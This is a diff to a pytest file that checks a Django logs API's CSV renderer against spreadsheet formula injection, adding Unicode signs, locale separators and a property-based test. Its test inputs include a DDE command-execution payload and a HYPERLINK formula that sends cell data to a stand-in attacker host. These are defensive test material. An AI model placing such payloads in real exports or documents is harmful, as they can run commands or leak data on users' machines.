@@ -6,10 +6,13 @@ import io
 import json
 import re
 from datetime import UTC, datetime, timedelta
+from string import whitespace
 
 import pytest
 import time_machine
 from django.db import OperationalError, connection
+from hypothesis import given
+from hypothesis import strategies as st
 
 from logs.api.renderers import CSVRenderer, JSONLinesRenderer
 from logs.api.serializers import DeliverySerializer, WorkflowEventSerializer
@@ -271,11 +274,34 @@ def written(value):
     return cell
 
 
-@pytest.mark.parametrize("sign", "=+-@＝＋－＠")
-@pytest.mark.parametrize("before", ["", " ", "\t", "\r", "\n", " \n ", "\0", "\ufeff", "\u00a0", "\u3000", "\u2028"])
+SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫\u2212"
+SEPARATORS = [";", "|", "\t", "\r", "\n", "\r\n", "\v", "\0", "\x85", "\u2028", "،", "؛", "；"]
+
+
+@pytest.mark.parametrize("sign", SIGNS)
+@pytest.mark.parametrize("before", ["", " ", "\ufeff", "\u00a0", "\u3000", '"', ' "" '])
 def test_a_formula_becomes_a_text(sign, before):
     for rest in ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1)', ""):
         assert written(before + sign + rest) == f"'{before}{sign}{rest}"
+
+
+@pytest.mark.parametrize("separator", SEPARATORS)
+@pytest.mark.parametrize("between", ["", " ", '"', "\n", ' "\t'])
+def test_a_formula_after_the_separator_of_another_locale_becomes_a_text(separator, between):
+    for sign in SIGNS:
+        assert written(f"x{separator}{between}{sign}1+1") == f"x{separator}{between}'{sign}1+1"
+        assert written(f"{separator}{between}{sign}1+1").lstrip("'") == f"{separator}{between}'{sign}1+1"
+
+
+@given(
+    texts=st.lists(st.text(st.sampled_from(f"a,' {SIGNS}" + '"' + "".join(SEPARATORS))), min_size=3, max_size=3),
+    delimiter=st.sampled_from(",;\t|"),
+)
+def test_no_cell_is_a_formula_whatever_separates_cells(texts, delimiter):
+    lines = "".join(CSVRenderer().lines([dict(zip("abc", texts, strict=True))] * 2, ["a", "b", "c"]))
+    for row in csv.reader(io.StringIO(lines, newline=""), delimiter=delimiter):
+        for cell in row:
+            assert not cell.lstrip(f'{whitespace}\0\x85\u2028"').startswith(tuple(SIGNS)), cell
 
 
 @pytest.mark.parametrize("start", ["\t", "\r", "\n", "\r\n"])
@@ -290,6 +316,9 @@ def test_a_text_that_begins_with_what_separates_cells_gets_an_apostrophe(start):
         "feature/x=1",
         "a - b",
         "1+1",
+        "a;b | c; 1-2",
+        "write to rosa@orchard.example; or not",
+        "a;'=b",
         "'quoted'",
         '"quoted"',
         "comma, semicolon; pipe|",
@@ -322,7 +351,7 @@ def test_a_hostile_payload_reaches_no_spreadsheet_as_a_formula(reader, deliver, 
     for query in ("", "&limit=1"):
         (row,) = rows_of(whole(reader.get(f"{EVENTS}?format=csv{query}")).decode())
         assert [row[name] for name in ("author", "branch", "commit_subject")] == ["'=1+1", "'＝1+1", "'@SUM(1),\"x"]
-        assert row["workflow"] == "'\t=1+1"
+        assert row["workflow"] == "'\t'=1+1"
 
 
 @pytest.mark.parametrize(
